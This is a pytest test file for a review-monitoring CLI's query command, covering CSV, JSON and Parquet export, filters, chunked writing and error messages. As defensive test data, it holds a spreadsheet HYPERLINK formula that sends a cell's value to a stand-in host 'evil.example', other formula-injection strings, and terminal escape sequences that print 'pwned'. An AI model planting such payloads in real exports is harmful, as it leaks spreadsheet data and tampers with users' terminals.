"""`reviewwatch query` on both backends: every format, filters, streaming to a file, errors."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from reviewwatch.cli import cli
from tests.analysts.conftest import HOSTILE, Seeded

CONFIG = """
[[businesses]]
id = "cafe-a"
name = "Café A"
[[businesses.sources]]
type = "trustpilot"
url = "https://trustpilot.example/cafe-a"
[[businesses.claims]]
positive_share = 0.9
stated_at = 2026-10-01
[[businesses.claims]]
topic = "service"
positive_share = 0.8
stated_at = 2026-10-01
[[businesses]]
id = "shop-b"
name = "Shop B"
[[businesses.sources]]
type = "feed"
url = "https://shop-b.example/feed"
"""


@pytest.fixture
def run(seeded: Seeded, write_config, monkeypatch: pytest.MonkeyPatch):
    path = write_config(CONFIG)
    monkeypatch.setenv("REVIEWWATCH_DATABASE_URL", seeded.store.url)

    def invoke(*args: str):
        return CliRunner().invoke(cli, ["--config", str(path), "query", *args])

    return invoke


def test_csv_to_file_with_filters(run, seeded: Seeded, tmp_path: Path) -> None:
    out = tmp_path / "negative.csv"
    result = run("--business", "cafe-a", "--sentiment", "negative", "--since", "2026-11-03",
                 "--format", "csv", "--output", str(out))
    assert result.exit_code == 0, result.output
    assert "4 mentions to" in result.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [int(r["mention_id"]) for r in rows] == [seeded.ids[k] for k in ("c9", "c8", "c6", "c3")]
    assert rows[2]["text"] == HOSTILE and rows[3]["topics"] == "price;quality"


def test_json_to_stdout(run) -> None:
    result = run("--search", "100%", "--format", "json")
    assert result.exit_code == 0, result.output
    [item] = json.loads(result.stdout)
    assert item["text"] == HOSTILE and item["label"] == "negative"
    empty = run("--language", "ru", "--format", "json")
    assert json.loads(empty.stdout) == []


def test_parquet_streams_in_chunks(run, tmp_path: Path) -> None:
    out = tmp_path / "all.parquet"
    result = run("--format", "parquet", "--output", str(out))
    assert result.exit_code == 0, result.output
    table = pq.read_table(out)
    assert table.num_rows == 12
    assert table.schema.field("published_at").type.tz == "UTC"
    assert table.column("topics")[0].as_py() == ["ambience", "price"]  # newest: c10


def test_parquet_is_written_one_chunk_at_a_time(seeded: Seeded, tmp_path: Path) -> None:
    from reviewwatch.commands.query import write_parquet
    from storage.queries import MentionFilter, iter_mention_chunks

    out = tmp_path / "chunked.parquet"
    with seeded.store.engine.connect() as connection:
        chunks = iter_mention_chunks(connection, MentionFilter(), chunk_size=5)
        assert write_parquet(chunks, out) == 12
    parquet = pq.ParquetFile(out)
    assert parquet.metadata.num_rows == 12
    # one row group per chunk: the rows were never all held at once
    assert [parquet.metadata.row_group(i).num_rows for i in range(parquet.num_row_groups)] == [5, 5, 2]


def test_table_shows_text_without_obeying_it(run, seeded: Seeded) -> None:
    from storage.mentions import MentionData, write_mentions
    from storage.models import Source

    with seeded.store.transaction() as session:
        source = session.query(Source).filter_by(type="feed").one()
        write_mentions(session, business_id=source.business_id, source_id=source.id, items=[
            MentionData(external_id="esc", text="[bold red]x[/] \x1b[2J\x1b]0;pwned\x07")])
    result = run("--business", "shop-b", "--limit", "5")
    assert result.exit_code == 0, result.output
    assert "3 mentions" in result.stderr
    assert "[bold red]x[/]" in result.stdout and "\x1b" not in result.stdout
    service = run("--business", "cafe-a", "--topic", "service", "--limit", "3")
    assert "Personalen var otrevlig." in service.stdout


@pytest.mark.parametrize(("args", "message"), [
    (["--since", "yesterday"], "since"),
    (["--topic", "weather"], "unknown topic 'weather'"),
    (["--business", "nope"], "unknown business 'nope'"),
    (["--format", "parquet"], "--format parquet needs --output"),
    (["--min-rating", "4", "--max-rating", "2"], "min_rating (4.0) is above max_rating"),
])
def test_bad_filters_are_one_clear_error(run, args: list[str], message: str) -> None:
    result = run(*args)
    assert result.exit_code == 2
    assert result.stderr.startswith("error: ") and message in result.stderr


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


def _add_formula_mentions(seeded: Seeded) -> None:
    from storage.mentions import MentionData, write_mentions
    from storage.models import Source

    with seeded.store.transaction() as session:
        source = session.query(Source).filter_by(type="feed").one()
        write_mentions(session, business_id=source.business_id, source_id=source.id, items=[
            MentionData(external_id=f"f{i}", text=text, author=text, title=text, language="en",
                        url=f"https://reviews.example/f{i}", rating=2, rating_scale=5)
            for i, text in enumerate(FORMULAS)
        ])


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(run, seeded: Seeded,
                                                           tmp_path: Path) -> None:
    _add_formula_mentions(seeded)
    out = tmp_path / "formulas.csv"
    result = run("--business", "shop-b", "--format", "csv", "--output", str(out))
    assert result.exit_code == 0, result.output
    rows = [r for r in csv.DictReader(out.open(encoding="utf-8", newline=""))
            if r["text"].lstrip("'") in FORMULAS]
    assert sorted(r["text"] for r in rows) == sorted("'" + f for f in FORMULAS)
    for row in rows:
        assert row["author"] == row["title"] == row["text"]  # every text column, not only one
        assert row["rating"] == "2.0"  # numbers stay numbers
    kept = {r["mention_id"]: r for r in csv.DictReader(out.open(encoding="utf-8", newline=""))}
    assert any(r["text"].startswith("The parcel") for r in kept.values())  # plain text untouched


def test_json_and_parquet_keep_formula_like_text_exact(run, seeded: Seeded, tmp_path: Path) -> None:
    _add_formula_mentions(seeded)
    result = run("--business", "shop-b", "--format", "json")
    assert result.exit_code == 0, result.output
    texts = {item["text"] for item in json.loads(result.stdout)}
    assert set(FORMULAS) <= texts
    out = tmp_path / "formulas.parquet"
    assert run("--business", "shop-b", "--format", "parquet", "--output", str(out)).exit_code == 0
    assert set(FORMULAS) <= set(pq.read_table(out).column("text").to_pylist())


def test_every_csv_the_project_writes_uses_the_neutralising_writer() -> None:
    """A new CSV writer elsewhere would bypass reviewwatch/csvsafe.py: none may exist."""
    from tests.conftest import REPO

    offenders = []
    for package in ("reviewwatch", "storage", "crawler", "sentiment"):
        for path in (REPO / package).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if path.name != "csvsafe.py" and ("csv.writer(" in text or "DictWriter(" in text
                                               or ".to_csv(" in text):
                offenders.append(str(path.relative_to(REPO)))
    assert offenders == []
